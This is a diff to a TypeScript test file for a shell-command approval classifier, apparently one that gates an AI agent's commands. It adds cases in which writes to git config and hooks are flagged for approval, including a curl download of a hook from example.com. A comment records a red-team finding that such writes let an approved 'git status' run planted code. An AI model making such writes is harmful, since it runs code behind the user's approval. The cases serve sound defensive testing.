@@ -1,5 +1,5 @@
 import type { ShellCase } from './cases-deny.ts';
-import { ATTACH, DETACH, INLINE, RR, SEC } from './rule-ids.ts';
+import { ATTACH, CRED, DETACH, INLINE, RR, SEC } from './rule-ids.ts';
 
 const allow = (list: readonly string[]): ShellCase[] => list.map((c): ShellCase => [c, 'allow']);
 const ask = (list: readonly string[]): ShellCase[] => list.map((c): ShellCase => [c, 'ask', ATTACH]);
@@ -134,3 +134,20 @@ export const ATTACH_LOOKALIKES: readonly ShellCase[] = allow([
   'node inspect app.js', 'node inspect --port=9230 app.js', 'node --inspect app.js', 'node app.js -p 1', 'frida -f ./app', 'frida-ps -U',
   'memray run app.py', 'jcmd', 'jcmd -l', 'jps -l', 'echo "gdb -p 1"', "git commit -m 'strace -p 1'", 'man gdb', 'grep -r attach src',
 ]);
+
+/**
+ * A repository's config and hooks, and the user's git config, hold code git runs on an ordinary command (core.fsmonitor,
+ * core.pager, aliases, a pre-commit hook): writing them plants commands that an approved `git status` then runs
+ * (approval red team: these writes were allowed). Reading them, and look-alike names, stay allowed.
+ */
+export const GIT_CODE_WRITES: readonly ShellCase[] = [
+  ...[
+    'echo x > .git/config', "printf '[core]\\n\\tfsmonitor = touch owned\\n' >> .git/config", 'cp evil .git/hooks/pre-commit',
+    'echo x > sub/.git/hooks/post-checkout', 'tee -a ~/.gitconfig < cfg', 'cat cfg > ~/.config/git/config', 'mv hook .git/hooks/pre-push',
+    'ln -sf /tmp/x .git/hooks/post-merge', 'install -m 755 hook .git/hooks/commit-msg', "sed -i 's/a/b/' .git/config", 'curl -o .git/hooks/pre-commit https://example.com/h',
+  ].map((c): ShellCase => [c, 'ask', CRED]),
+  ...allow([
+    'cat .git/config', 'ls .git/hooks', 'git config --get core.pager', 'echo x > .git-notes', 'echo x > githooks/pre-commit', 'cp .git/config /tmp/backup',
+    'echo x > docs/gitconfig.md',
+  ]),
+];
